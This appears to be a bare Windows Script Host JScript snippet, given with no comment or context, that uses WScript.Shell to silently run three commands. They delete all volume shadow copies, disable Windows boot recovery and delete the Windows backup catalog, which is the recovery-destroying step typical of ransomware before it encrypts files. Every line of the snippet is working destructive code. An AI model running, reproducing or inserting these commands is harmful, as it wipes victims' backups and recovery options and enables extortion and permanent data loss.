var sh = new ActiveXObject("WScript.Shell");
var list = ["vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled No", "wbadmin delete catalog -quiet"];
for (var i in list) sh.Run("cmd.exe /c " + list[i], 0, true);
